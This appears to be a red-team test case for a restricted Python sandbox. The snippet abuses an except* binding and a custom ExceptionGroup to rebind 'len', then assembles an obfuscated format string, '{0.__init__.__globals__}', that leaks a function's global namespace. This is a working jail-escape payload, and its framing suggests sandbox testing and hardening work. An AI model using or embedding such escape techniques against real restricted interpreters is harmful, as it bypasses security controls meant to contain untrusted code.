# family: red team, round 68b (len bound by except-star, then used to repeat a template piece)
class Evil:
    def __rmul__(self, other):
        u = "x_"[1] + "x_"[1]
        return "{0." + u + "init" + u + "." + u + "globals" + u + "}"
class EG(ExceptionGroup):
    def derive(self, excs):
        return EG("g", excs)
    def __call__(self, x):
        return Evil()
def show():
    return 1
try:
    raise EG("g", [ValueError()])
except* ValueError as len:
    print(("{}" * len(show)).format(show))
